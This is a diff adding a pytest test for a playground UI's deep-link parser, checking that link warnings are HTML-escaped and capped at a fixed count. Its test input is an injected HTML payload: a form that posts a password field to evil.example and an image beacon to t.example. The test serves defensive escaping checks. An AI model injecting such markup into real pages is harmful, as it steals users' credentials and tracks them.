@@ -133,3 +133,15 @@ def test_an_old_tab_key_still_opens_its_renamed_tab():
     fields = {"quantization": (LinkField("precisions", "choices", choices=("none", "int4")),)}
     link = resolve_query("?tab=model&precisions=int4", fields)
     assert link.tab == "quantization" and link.values == {"precisions": ["int4"]} and link.problems == ()
+
+
+def test_link_warnings_are_escaped_and_capped():
+    from playground.ui.deeplinks import MAX_LINK_WARNINGS, link_warnings
+
+    fields = {"sampling": (LinkField("temperature", "number", 0, 2, False),)}
+    form = '<form action="https://evil.example"><input type=password name=p><img src=https://t.example/x>'
+    link = resolve_query({"tab": form, **{f"k{i}": "1" for i in range(1500)}}, fields)
+    warnings = link_warnings(link.problems)
+    assert len(warnings) == MAX_LINK_WARNINGS + 1 and "1,496 more problems" in warnings[-1]
+    assert not any("<form" in w or "<img" in w or "<input" in w for w in warnings)
+    assert "&lt;form" in warnings[0]
